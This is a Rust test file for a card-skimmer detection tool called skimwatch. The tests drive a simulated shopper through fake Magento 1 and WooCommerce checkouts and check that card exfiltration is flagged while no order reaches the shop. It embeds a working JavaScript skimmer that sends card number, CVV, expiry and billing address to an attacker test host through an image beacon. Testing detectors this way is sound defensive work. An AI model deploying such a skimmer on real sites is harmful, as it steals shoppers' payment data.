//! Issue 16: the default shopper (`interact = "complete"`) completes a checkout the way real skimmers expect — every
//! field (billing address, country and card type `select`s, expiry `select`s, the card
//! payment method, the terms box), each step's continue button and the pay button, pass after
//! pass — while no order request ever reaches the shop. Pages here are small Magento-1-style
//! and WooCommerce-style checkouts served by the test shop; each skimmer waits for what real
//! ones wait for (the click on "Place Order", a complete billing address, a card type that
//! matches the number).

use crate::util::{describe, findings_of, Workspace};
use skimwatch::model::{FindingKind, Interaction, ScanReport, Severity};
use skimwatch_testshop::{Checkout, Origin, Resource, Shop, Wake};

const M1: &str = "/wake/m1/checkout";

/// A Magento-1-style one-page checkout: billing → shipping method → payment (`ccsave` with
/// card type and expiry `select`s) → review (terms, `review.save()`). Each step posts to its
/// `/checkout/onepage/save…` URL and opens the next section when answered; `review.save()`
/// posts `saveOrder`. A log-out link, a back link and a cancel button must never be pressed.
fn magento1(shop: &Shop, skimmer: &str) -> String {
    let attacker = shop.base(Origin::Attacker);
    format!(
        r##"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title>
<style>.step {{ display: none; }} .step.active {{ display: block; }} #payment_form_ccsave {{ display: none; }}</style></head><body>
<a href="/customer/account/logout/">Log Out</a>
<ol id="checkoutSteps">
<li id="opc-billing" class="step active"><form id="co-billing-form">
  <label for="billing:firstname">First Name</label><input id="billing:firstname" name="billing[firstname]">
  <label for="billing:lastname">Last Name</label><input id="billing:lastname" name="billing[lastname]">
  <label for="billing:company">Company</label><input id="billing:company" name="billing[company]">
  <label for="billing:email">Email Address</label><input id="billing:email" name="billing[email]">
  <label for="billing:street1">Address</label><input id="billing:street1" name="billing[street][]">
  <label for="billing:city">City</label><input id="billing:city" name="billing[city]">
  <label for="billing:region_id">State/Province</label><select id="billing:region_id" name="billing[region_id]"><option value="">Please select region, state or province</option><option value="1">Dublin</option><option value="2">Cork</option></select>
  <label for="billing:postcode">Zip/Postal Code</label><input id="billing:postcode" name="billing[postcode]">
  <label for="billing:country_id">Country</label><select id="billing:country_id" name="billing[country_id]"><option value=""> </option><option value="FR">France</option><option value="DE">Germany</option><option value="IE">Ireland</option><option value="US">United States</option></select>
  <label for="billing:telephone">Telephone</label><input id="billing:telephone" name="billing[telephone]">
  <button type="button" class="button" title="Continue" onclick="billing.save()"><span>Continue</span></button>
</form></li>
<li id="opc-shipping_method" class="step"><form id="co-shipping-method-form">
  <input type="radio" name="shipping_method" value="flatrate_flatrate" id="s_method_flatrate_flatrate"><label for="s_method_flatrate_flatrate">Flat Rate</label>
  <input type="radio" name="shipping_method" value="freeshipping_freeshipping" id="s_method_freeshipping"><label for="s_method_freeshipping">Free</label>
  <a href="#" onclick="checkout.back(); return false;">Back</a>
  <button type="button" class="button" onclick="shippingMethod.save()"><span>Continue</span></button>
</form></li>
<li id="opc-payment" class="step"><form id="co-payment-form">
  <input type="radio" name="payment[method]" value="checkmo" id="p_method_checkmo" checked><label for="p_method_checkmo">Check / Money order</label>
  <input type="radio" name="payment[method]" value="ccsave" id="p_method_ccsave" onclick="payment.switchMethod('ccsave')"><label for="p_method_ccsave">Credit Card (saved)</label>
  <ul id="payment_form_ccsave">
    <li><label for="ccsave_cc_owner">Name on Card</label><input id="ccsave_cc_owner" name="payment[cc_owner]"></li>
    <li><label for="ccsave_cc_type">Credit Card Type</label><select id="ccsave_cc_type" name="payment[cc_type]"><option value="">--Please Select--</option><option value="AE">American Express</option><option value="VI">Visa</option><option value="MC">MasterCard</option><option value="DI">Discover</option><option value="JCB">JCB</option></select></li>
    <li><label for="ccsave_cc_number">Credit Card Number</label><input id="ccsave_cc_number" name="payment[cc_number]"></li>
    <li><label for="ccsave_expiration">Expiration Date</label><select id="ccsave_expiration" name="payment[cc_exp_month]"><option value="">Month</option><option value="1">01 - January</option><option value="2">02 - February</option><option value="3">03 - March</option><option value="4">04 - April</option><option value="5">05 - May</option><option value="6">06 - June</option><option value="7">07 - July</option><option value="8">08 - August</option><option value="9">09 - September</option><option value="10">10 - October</option><option value="11">11 - November</option><option value="12">12 - December</option></select>
      <select id="ccsave_expiration_yr" name="payment[cc_exp_year]"><option value="">Year</option>{years}</select></li>
    <li><label for="ccsave_cc_cid">Card Verification Number</label><input id="ccsave_cc_cid" name="payment[cc_cid]" maxlength="4"></li>
  </ul>
  <button type="button" class="button" onclick="payment.save()"><span>Continue</span></button>
</form></li>
<li id="opc-review" class="step">
  <input type="checkbox" id="agreement-1" name="agreement[1]" value="1"><label for="agreement-1">I agree to the Terms and Conditions</label>
  <button type="button" class="button btn-cancel" onclick="cancelOrder()">Cancel</button>
  <button type="submit" title="Place Order" class="button btn-checkout" onclick="review.save();"><span>Place Order</span></button>
</li>
</ol>
<script>
var ATTACKER = "{attacker}";
function $(id) {{ return document.getElementById(id); }}
function v(id) {{ var e = $(id); return e ? e.value : ""; }}
function post(url, form, next) {{
  var x = new XMLHttpRequest(); x.open("POST", url); x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  x.onload = function () {{ if (next) {{ document.querySelector(".step.active").classList.remove("active"); $(next).classList.add("active"); }} }};
  x.send(form ? new URLSearchParams(new FormData($(form))).toString() : "");
}}
var billing = {{ save: function () {{ post("/checkout/onepage/saveBilling/", "co-billing-form", "opc-shipping_method"); }} }};
var shippingMethod = {{ save: function () {{ post("/checkout/onepage/saveShippingMethod/", "co-shipping-method-form", "opc-payment"); }} }};
var payment = {{ switchMethod: function (m) {{ $("payment_form_ccsave").style.display = m == "ccsave" ? "block" : "none"; }},
  save: function () {{ post("/checkout/onepage/savePayment/", "co-payment-form", "opc-review"); }} }};
var review = {{ save: function () {{ post("/checkout/onepage/saveOrder/", "co-payment-form", null); }} }};
var checkout = {{ back: function () {{ new Image().src = "/checkout/back-was-clicked"; }} }};
function cancelOrder() {{ new Image().src = "/checkout/cancel-was-clicked"; }}
{skimmer}
</script></body></html>"##,
        years = (0..8)
            .map(|i| {
                let y = time::OffsetDateTime::now_utc().year() + i;
                format!(r#"<option value="{y}">{y}</option>"#)
            })
            .collect::<String>()
    )
}

/// Sends the card and the billing address to the attacker when "Place Order" is clicked, but
/// only if the card type chosen matches the number, the expiry is chosen, and the billing
/// address is complete (as the Magento 1 samples check before sending).
const M1_PAY_BUTTON_SKIMMER: &str = r#"
function brandOf(n) { return /^4/.test(n) ? "VI" : /^(5[1-5]|2[2-7])/.test(n) ? "MC" : /^3[47]/.test(n) ? "AE" : /^(6011|65)/.test(n) ? "DI" : /^35/.test(n) ? "JCB" : ""; }
document.addEventListener("click", function (e) {
  var b = e.target.closest && e.target.closest("[onclick*='review.save']");
  if (!b) return;
  var n = v("ccsave_cc_number").replace(/\D/g, "");
  var billingDone = ["billing:firstname", "billing:lastname", "billing:email", "billing:street1", "billing:city", "billing:postcode", "billing:telephone", "billing:country_id", "billing:region_id"].every(function (i) { return v(i) !== ""; });
  if (!billingDone || brandOf(n) !== v("ccsave_cc_type") || !v("ccsave_expiration") || !v("ccsave_expiration_yr") || v("ccsave_cc_cid").length < 3 || !$("agreement-1").checked) return;
  var data = { n: n, t: v("ccsave_cc_type"), m: v("ccsave_expiration"), y: v("ccsave_expiration_yr"), c: v("ccsave_cc_cid"), h: v("ccsave_cc_owner"), a: v("billing:street1"), z: v("billing:country_id") };
  new Image().src = ATTACKER + "/m1.gif?d=" + encodeURIComponent(btoa(JSON.stringify(data)));
}, true);
"#;

/// A workspace scanning `path` of the shop with the default interaction (no `interact` key),
/// which completes the checkout (each test asserts `interaction.mode`).
fn workspace(shop: Shop, path: &str) -> Workspace {
    let url = shop.url(Origin::Shop, path);
    Workspace::with_page_config(shop, "checkout", &url, "settle = \"1s\"")
}

/// Requests that would have placed an order, or that a destructive or leaving click made.
fn forbidden_requests(shop: &Shop) -> Vec<String> {
    let orders = Checkout::ALL.iter().flat_map(|c| shop.order_requests(*c));
    shop.requests_to(Origin::Shop)
        .into_iter()
        .filter(|r| r.path.contains("saveOrder") || r.path.contains("logout") || r.path.contains("was-clicked"))
        .chain(orders)
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

fn interaction(report: &ScanReport) -> &Interaction {
    report.pages[0].interaction.as_ref().expect("interaction reported")
}

fn assert_exfiltration_to_attacker(ws: &Workspace, report: &ScanReport) {
    let attacker = ws.shop.host(Origin::Attacker);
    let f = findings_of(report, FindingKind::CardExfiltration)
        .into_iter()
        .find(|f| f.destination.as_ref().is_some_and(|d| d.host == attacker))
        .unwrap_or_else(|| {
            panic!("no card_exfiltration to {attacker}:\n{}\n{:#?}", describe(report), report.pages[0].interaction)
        });
    assert_eq!(f.severity, Severity::Critical);
}

#[test]
fn own_magento1_page_is_completed_step_by_step_never_pressing_back_cancel_or_log_out() {
    let shop = Shop::start_in_background().expect("start the test shop");
    for path in ["saveBilling", "saveShippingMethod", "savePayment", "saveOrder"] {
        shop.set_resource(Origin::Shop, &format!("/checkout/onepage/{path}/"), Resource::json("{}"));
    }
    let body = magento1(&shop, M1_PAY_BUTTON_SKIMMER);
    shop.set_resource(Origin::Shop, M1, Resource::html(body));
    let ws = workspace(shop, M1);
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    assert_exfiltration_to_attacker(&ws, &report);
    let i = interaction(&report);
    assert_eq!(i.mode.as_str(), "complete");
    // Every step in order, the pay button last; never Back, Cancel or Log Out.
    let pressed = i.buttons_pressed.join("\n");
    let order = ["billing.save()", "shippingMethod.save()", "payment.save()", "review.save()"];
    let at: Vec<usize> =
        order.iter().map(|b| pressed.find(b).unwrap_or_else(|| panic!("{b} not pressed: {i:#?}"))).collect();
    assert!(at.windows(2).all(|w| w[0] < w[1]), "steps out of order: {pressed}");
    assert!(!pressed.to_lowercase().contains("cancel") && !pressed.contains("back"), "{pressed}");
    assert!(i.submitted && i.passes >= 4, "{i:#?}");
    for field in [
        "main|#billing\\:firstname",
        "main|#billing\\:country_id",
        "main|#ccsave_cc_type",
        "main|#ccsave_expiration_yr",
        "main|#p_method_ccsave",
        "main|#agreement-1",
        "main|#s_method_flatrate_flatrate",
    ] {
        assert!(i.fields_filled.iter().any(|f| f == field), "{field} not filled: {i:#?}");
    }
    assert!(i.fields_typed.iter().any(|f| f == "main|#ccsave_cc_number"), "{i:#?}");
    // The order request was failed in the browser; the step requests went through.
    assert!(i.blocked.iter().any(|b| b.contains("/checkout/onepage/saveOrder/")), "{i:#?}");
    let got: Vec<String> = ws.shop.requests_to(Origin::Shop).into_iter().map(|r| r.path).collect();
    for step in ["saveBilling", "saveShippingMethod", "savePayment"] {
        assert!(got.iter().any(|p| p.contains(step)), "{step} did not reach the shop: {got:?}");
    }
    assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new());
    // The attacker got a card type matching the number and the persona's country.
    let stolen = ws.shop.requests_to(Origin::Attacker);
    assert!(stolen.iter().any(|r| r.path.starts_with("/m1.gif?d=")), "{stolen:?}");
}

/// Plants `wake` into its checkout, scans once with the default interaction: the card goes
/// to the attacker, no order reaches the shop, and the report says what the shopper did.
fn wakes(wake: Wake) {
    let shop = Shop::start_in_background().expect("start the test shop");
    shop.plant_wake_skimmer(wake);
    let ws = workspace(shop, wake.checkout().path());
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}: {}", wake.name(), describe(&report));
    assert_exfiltration_to_attacker(&ws, &report);
    assert!(
        ws.shop.requests_to(Origin::Attacker).iter().any(|r| r.path_only() == wake.exfil_path()),
        "{}: nothing reached {}",
        wake.name(),
        wake.exfil_path()
    );
    assert_eq!(ws.shop.order_requests(wake.checkout()), Vec::new(), "{}: an order reached the shop", wake.name());
    assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new(), "{}", wake.name());
    let i = interaction(&report);
    assert_eq!(i.mode.as_str(), "complete", "the default interaction");
    assert!(!i.fields_filled.is_empty() && !i.buttons_pressed.is_empty(), "{}: {i:#?}", wake.name());
    assert!(i.submitted, "{}: the pay button was pressed: {i:#?}", wake.name());
}

#[test]
fn pay_button_skimmer_wakes() {
    wakes(Wake::PayButton);
}

#[test]
fn step_button_skimmer_wakes() {
    wakes(Wake::StepButton);
}

#[test]
fn form_submit_skimmer_wakes() {
    wakes(Wake::FormSubmit);
}

#[test]
fn cvv_blur_skimmer_wakes() {
    wakes(Wake::CvvBlur);
}

#[test]
fn billing_complete_skimmer_wakes() {
    wakes(Wake::BillingComplete);
}

#[test]
fn luhn_and_type_skimmer_wakes() {
    wakes(Wake::LuhnAndType);
}

#[test]
fn delegated_click_skimmer_wakes() {
    wakes(Wake::DelegatedClick);
}

#[test]
fn keystroke_timer_skimmer_wakes() {
    wakes(Wake::KeystrokeTimer);
}

#[test]
fn clean_checkouts_are_completed_quietly_and_place_no_order() {
    for checkout in Checkout::ALL {
        let shop = Shop::start_in_background().expect("start the test shop");
        let ws = workspace(shop, checkout.path());
        ws.approved_baseline();
        let (code, report) = ws.scan(&[]);
        assert_eq!(code, 0, "{checkout:?}: {}", describe(&report));
        let i = interaction(&report);
        assert!(i.submitted, "{checkout:?}: {i:#?}");
        let steps = if checkout == Checkout::Magento1 { 4 } else { 1 };
        assert_eq!(i.buttons_pressed.len(), steps, "{checkout:?}: {i:#?}");
        assert!(i.fields_filled.len() >= 12, "{checkout:?}: {i:#?}");
        assert!(i.problems.is_empty(), "{checkout:?}: {i:#?}");
        assert_eq!(ws.shop.order_requests(checkout), Vec::new(), "{checkout:?}");
        assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new(), "{checkout:?}");
    }
}
